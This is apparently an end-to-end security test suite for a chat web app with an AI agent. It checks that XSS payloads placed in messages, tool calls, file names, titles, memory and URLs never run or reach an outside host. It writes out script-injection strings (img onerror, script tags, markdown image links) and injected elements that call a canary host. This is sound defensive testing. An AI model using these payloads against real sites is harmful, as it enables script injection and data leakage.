import { describe, expect, it } from 'vitest';
import { OFFLINE_TITLES } from '../support/stage.ts';
import { Talk } from '../support/talk.ts';
import { until } from '../support/until.ts';
import { useStage } from '../support/use-stage.ts';
import { type Canary, startCanary } from './support/canary.ts';
import { expectUnharmed, watchRefusals } from './support/harm.ts';
import { hostilePayloads } from './support/hostile-payloads.ts';
import { useBrowser } from './support/use-browser.ts';
import { openWeb, type WebPage } from './support/web-page.ts';

const stage = useStage();
const browser = useBrowser();

const IN_ONE_SESSION = 50;
/** Message, answer and end. */
const ROWS_OF_EACH = 3;

/** Scrolls through a conversation, with all thoughts open, and looks for harm wherever it is. @returns how many rows were seen */
async function lookAtAll(web: WebPage, canary: Canary): Promise<number> {
  const { page } = web;
  const frame = page.getByRole('region', { name: 'Conversation' });
  const last = page.locator(`[aria-posinset="${ROWS_OF_EACH * IN_ONE_SESSION}"]`);
  await last.waitFor();
  await until('the beginning is shown', async () => {
    await frame.evaluate((one) => one.scrollTo(0, 0));
    return (await page.locator('[aria-posinset="1"]').count()) > 0;
  });
  const seen = new Set<string>();
  await until(
    'the end is reached',
    async () => {
      const places = await page.getByRole('article').evaluateAll((all) =>
        all.map((one) => {
          for (const thoughts of one.querySelectorAll('details')) thoughts.open = true;
          return one.getAttribute('aria-posinset') ?? '';
        }),
      );
      for (const place of places) seen.add(place);
      await expectUnharmed(web, canary);
      return await frame.evaluate((one) => {
        one.scrollBy(0, one.clientHeight);
        return one.scrollTop + one.clientHeight >= one.scrollHeight - 2;
      });
    },
    60_000,
  );
  return seen.size;
}

describe('hostile content', () => {
  it('of 300 kinds, said by model and person, runs nothing and asks no other host [I5] [FT47] [FT48]', {
    timeout: 300_000,
  }, async () => {
    await using canary = await startCanary();
    const payloads = hostilePayloads(canary.address);
    expect(payloads).toHaveLength(300);
    const said = [...payloads];
    await stage().model(
      () => {
        const text = said.shift()?.text ?? '';
        return { text, thinking: text };
      },
      { models: OFFLINE_TITLES },
    );
    await using web = await openWeb(stage(), browser());
    await watchRefusals(web.page);
    let rows = 0;
    for (let from = 0; from < payloads.length; from += IN_ONE_SESSION) {
      await using talk = await Talk.begin(stage());
      for (const [at, { text }] of payloads.slice(from, from + IN_ONE_SESSION).entries()) {
        await talk.send(`m${at}`, { content: text });
        await talk.settledWithin(`m${at}`, 20_000);
      }
      await web.page.goto(`${web.address}/chat/${talk.session}`);
      rows += await lookAtAll(web, canary);
      expect(new URL(web.page.url()).pathname).toBe(`/chat/${talk.session}`);
    }
    expect(rows).toBe(ROWS_OF_EACH * payloads.length);
  });

  it('in names, files, tools, titles, memory and questions runs nothing and asks no other host [I5] [FT47] [FT48]', {
    timeout: 120_000,
  }, async () => {
    await using canary = await startCanary();
    const evil = `"><img src=${canary.address}/name onerror=window.__ran=1><script>window.__ran=1</script>`;
    const name = evil.replaceAll('/', '');
    stage().write(name, `${evil}\n`);
    await stage().model([
      {
        toolCalls: [
          { name: 'read', args: { path: name } },
          { name: evil, args: { [evil]: evil } },
        ],
      },
      {
        toolCalls: [
          {
            name: 'edit',
            args: { path: name, old_text: 'window', new_text: `![x](${canary.address}/diff)` },
          },
        ],
      },
      { toolCalls: [{ name: 'bash', args: { command: `echo '${evil}'` } }] },
      { toolCalls: [{ name: 'write', args: { path: `.vscode/${name}.json`, content: evil } }] },
      { text: 'over' },
    ]);
    await using talk = await Talk.begin(stage());
    using client = await stage().client();
    await client.call('setTitle', { sessionId: talk.session, title: evil });
    await client.call('addMemory', { text: evil });
    await using web = await openWeb(stage(), browser());
    const { page } = web;
    await watchRefusals(page);
    await page.goto(`${web.address}/chat/${talk.session}`);
    await page.getByRole('textbox', { name: 'Message' }).fill(evil);
    await page.keyboard.press('Enter');
    await page.getByRole('alertdialog').waitFor();
    await page.locator('section.tool > button').evaluateAll((all) => {
      for (const one of all) if (one instanceof HTMLElement) one.click();
    });
    await page.getByRole('heading', { name: 'judged' }).first().waitFor();
    await expectUnharmed(web, canary);
    for (const path of [
      '/',
      '/sessions',
      '/approvals',
      '/memory?file=MEMORY.md',
      '/console/security',
      '/console/audit',
      '/console/changes',
      '/console/usage',
      '/skills',
      '/settings/folders?folder=%3Cimg%20src%3Dx%20onerror%3Dwindow.__ran%3D1%3E',
      '/%3Cscript%3Ewindow',
      '/chat/%3Cscript%3E',
    ]) {
      await page.goto(web.address + path);
      await page.locator('main').getByRole('heading').first().waitFor();
      await expectUnharmed(web, canary);
    }
    await page.goto(`${web.address}/sessions`);
    await page.getByRole('searchbox').fill('onerror');
    await page.getByRole('heading', { name: /message/ }).waitFor();
    await expectUnharmed(web, canary);
  });

  it('is stopped by the policy of content even where it got into a page [I5] [FT47] [FT48]', async () => {
    await using canary = await startCanary();
    await stage().model([]);
    await using web = await openWeb(stage(), browser());
    const { page } = web;
    await watchRefusals(page);
    await page.goto(web.address);
    await page.getByRole('textbox', { name: 'Message' }).waitFor();
    const before = web.requests.length;
    await page.evaluate((host) => {
      const hole = document.createElement('div');
      hole.innerHTML = `<img src="${host}/img" onerror="window.__ran=1"><iframe src="${host}/frame"></iframe><link rel="stylesheet" href="${host}/css"><p style="background:url(${host}/style)">x</p><object data="${host}/object"></object>`;
      document.body.append(hole);
      const inline = document.createElement('script');
      inline.textContent = 'window.__ran = 1';
      const foreign = document.createElement('script');
      foreign.src = `${host}/script`;
      document.head.append(inline, foreign);
      fetch(`${host}/fetch`).catch(() => undefined);
      navigator.sendBeacon(`${host}/beacon`);
    }, canary.address);
    const refused = await until('all of it is refused', async () => {
      const list = await page.evaluate(() => window.__refused ?? []);
      const kinds = new Set(list.map((one) => one.split(' ')[0]));
      return (
        ['img-src', 'frame-src', 'style-src-elem', 'object-src', 'script-src-elem', 'connect-src'].every(
          (kind) => kinds.has(kind),
        ) && list
      );
    });
    expect(refused.length).toBeGreaterThan(6);
    expect(await page.evaluate(() => window.__ran)).toBeUndefined();
    expect(canary.asked).toEqual([]);
    expect(web.requests.length).toBeGreaterThanOrEqual(before);
  });
});
